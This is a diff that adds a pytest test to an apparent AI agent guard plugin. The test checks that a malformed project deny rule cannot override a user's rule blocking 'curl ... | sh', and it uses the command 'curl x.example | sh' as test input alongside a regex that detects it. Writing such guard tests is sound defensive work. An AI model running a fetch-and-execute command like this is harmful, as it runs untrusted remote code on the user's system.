@@ -115,3 +115,17 @@ def test_setting_checks(setting: Setting, value: object, why: str) -> None:
     with pytest.raises(ValueError, match=why):
         setting.validate(value)
     setting.validate(setting.default)
+
+
+@pytest.mark.parametrize("bad", ["deny = ['(']", 'deny = "x"', "deny = [1]"])
+def test_a_projects_bad_rules_fall_back_to_yours_not_past_them(orch: OrchState, bad: str) -> None:
+    """A project's rules add to yours; a project whose value is not rules at all must not take
+    yours away with it: a cloned repository may forbid more, never less."""
+    orch.write_config("[plugin.guard]\ndeny = ['\\bcurl\\b.*\\|\\s*sh\\b']\n", user=True)
+    path = orch.write_config(f"[plugin.guard]\n{bad}\n")
+    result = orch.run_hook(payload("PreToolUse", tool_input={"command": "curl x.example | sh"}))
+    assert result.output is not None
+    assert result.output["hookSpecificOutput"]["permissionDecision"] == "deny"
+    (line,) = orch.cli("agents").stderr.splitlines()
+    assert line.startswith(f"Error: {path}: [plugin.guard] deny = ")
+    assert line.endswith("; your own value is used")
